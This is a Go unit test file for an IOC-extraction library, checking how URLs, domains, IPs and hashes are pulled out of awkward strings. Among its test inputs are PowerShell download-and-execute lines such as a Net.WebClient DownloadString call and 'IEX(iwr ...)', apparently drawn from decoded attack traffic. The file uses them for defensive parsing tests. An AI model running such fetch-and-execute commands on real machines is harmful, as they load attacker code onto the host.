package ioc

import "testing"

func TestURL(t *testing.T) {
	cases{
		// PowerShell, as it comes out of base64.
		{"(New-Object Net.WebClient).DownloadString('http://10.10.10.5:80/a.ps1')", "url http://10.10.10.5:80/a.ps1, ipv4 10.10.10.5"},
		{"$ser='http://10.10.10.5';$t='/news.php'", "url http://10.10.10.5, ipv4 10.10.10.5"},
		{`"https://x.example.com/a",`, "url https://x.example.com/a, dns x.example.com"},
		{"IEX(iwr http://x.example.com/a);exit", "url http://x.example.com/a, dns x.example.com"},
		{"@('http://a.com/1','http://b.com/2')", "url http://a.com/1, dns a.com, url http://b.com/2, dns b.com"},
		{"`http://a.com/x`", "url http://a.com/x, dns a.com"},
		{"'http://'+$h 'ht'+'tp://x' http://$h/x http://%63.com", ""},
		{"http://10.0.0.1:$port/x", "url http://10.0.0.1, ipv4 10.0.0.1"},
		// Hosts.
		{"http://intranet/x http://my_server http://localhost:8080", "url http://intranet/x, url http://my_server, url http://localhost:8080"},
		{"https://dc1.corp.local/x", "url https://dc1.corp.local/x, dns dc1.corp.local"},
		{"http://3232235777/x http://0x7f000001", "url http://3232235777/x, url http://0x7f000001"},
		{"http://999.1.1.1/ http://010.0.0.1/ http://1.2.3/ http://-x/ http://x-.com/ http:// http:/// file:///c", ""},
		{"http://a.b_c.com/x", "url http://a.b_c.com/x"},
		{"http://[2001:db8::1%25eth0]:81/x http://[::2] http://[::ffff:1.2.3.4]/", "url http://[2001:db8::1%25eth0]:81/x, ipv6 2001:db8::1, url http://[::2], ipv6 ::2, url http://[::ffff:1.2.3.4]/, ipv6 ::ffff:1.2.3.4, ipv4 1.2.3.4"},
		{"http://[1.2.3.4]/ http://[::1 http://[::g]", "ipv4 1.2.3.4, ipv6 ::1"},
		{"ftp://bob:p%40w@f.example.com:21/x http://evil.com@1.2.3.4/", "url ftp://bob:p%40w@f.example.com:21/x, dns f.example.com, url http://evil.com@1.2.3.4/, ipv4 1.2.3.4"},
		{"http://a.com:65536/x http://a.com:80x http://a.com:/x http://a.com:", "url http://a.com, dns a.com, url http://a.com, dns a.com, url http://a.com:/x, dns a.com, url http://a.com, dns a.com"},
		{"http://a.com./x http://a.com. http://a.com...", "url http://a.com./x, dns a.com, url http://a.com, dns a.com, url http://a.com, dns a.com"},
		// Schemes.
		{"HTTPS://A.COM /url:http://a.com view-source:http://a.com", "url HTTPS://A.COM, dns A.COM, url http://a.com, dns a.com, url http://a.com, dns a.com"},
		{"xhttp://a.com foo://a.com http:/a.com http:a.com", "dns a.com, dns a.com, dns a.com, dns a.com"},
		{"stratum+tcp://p.example.com:3333 q+http://a.com", "url stratum+tcp://p.example.com:3333, dns p.example.com, url http://a.com, dns a.com"},
		{`\nhttp://a.com\r\n \u003chttps://a.com\u003e =3Dftp://a.com %20http://a.com%20`, "url http://a.com, dns a.com, url https://a.com, dns a.com, dns a.com, url http://a.com, dns a.com"},
		// Ends.
		{"see http://a.com/x. (http://a.com/x) [http://a.com/x], {http://a.com/x}; <http://a.com/x>", "url http://a.com/x, dns a.com, url http://a.com/x, dns a.com, url http://a.com/x, dns a.com, url http://a.com/x, dns a.com, url http://a.com/x, dns a.com"},
		{"http://a.com/x_(y) http://a.com/x(y http://a.com/x(", "url http://a.com/x_(y), dns a.com, url http://a.com/x(y, dns a.com, url http://a.com/x, dns a.com"},
		{"http://a.com/x?!.,;: http://a.com/?a=b&c=d== http://a.com/x& http://a.com?", "url http://a.com/x, dns a.com, url http://a.com/?a=b&c=d==, dns a.com, url http://a.com/x, dns a.com, url http://a.com, dns a.com"},
		{"href=&quot;http://a.com/?x&amp;y&quot; http://a.com/&#x27; http://a.com/&LT;b", "url http://a.com/?x&amp;y, dns a.com, url http://a.com/, dns a.com, url http://a.com/, dns a.com"},
		{"http://a.com/x,http://b.com/y;ftp://c.com/z,w", "url http://a.com/x, dns a.com, url http://b.com/y, dns b.com, url ftp://c.com/z,w, dns c.com"},
		{"http://a.com/x|y^z http://a.com/\x00 http://a.com/\u00a0 http://a.com/\xff", "url http://a.com/x, dns a.com, url http://a.com/, dns a.com, url http://a.com/, dns a.com, url http://a.com/, dns a.com"},
		{"http://a.com/日本。http://a.com/😀", "url http://a.com/日本, dns a.com, url http://a.com/😀, dns a.com"},
	}.run(t)
}

func TestWithinURL(t *testing.T) {
	cases{
		{"http://a.com/b.com/c.zip?d=e.com&f=g.zip#h.org", "url http://a.com/b.com/c.zip?d=e.com&f=g.zip#h.org, dns a.com, dns e.com, dns h.org"},
		{"http://a.com/1.2.3.4/bob@e.com/d41d8cd98f00b204e9800998ecf8427e", "url http://a.com/1.2.3.4/bob@e.com/d41d8cd98f00b204e9800998ecf8427e, dns a.com, ipv4 1.2.3.4, email bob@e.com, dns e.com, md5 d41d8cd98f00b204e9800998ecf8427e"},
		{"http://a.com/web/http://b.com/c.org", "url http://a.com/web/http://b.com/c.org, dns a.com, url http://b.com/c.org, dns b.com"},
		{"http://a.com/?u=http://b.com/c.org?d.net&v=e.net", "url http://a.com/?u=http://b.com/c.org?d.net&v=e.net, dns a.com, url http://b.com/c.org?d.net, dns b.com, dns d.net, dns e.net"},
		{"http://a.com/(http://b.com/x)/(http://c.com/y)z.org q.org", "url http://a.com/(http://b.com/x)/(http://c.com/y)z.org, dns a.com, url http://b.com/x, dns b.com, url http://c.com/y, dns c.com, dns q.org"},
		{"http://a.com/?u=http%3A%2F%2Fb.com%2Fx", "url http://a.com/?u=http%3A%2F%2Fb.com%2Fx, dns a.com, dns b.com"},
	}.run(t)
}
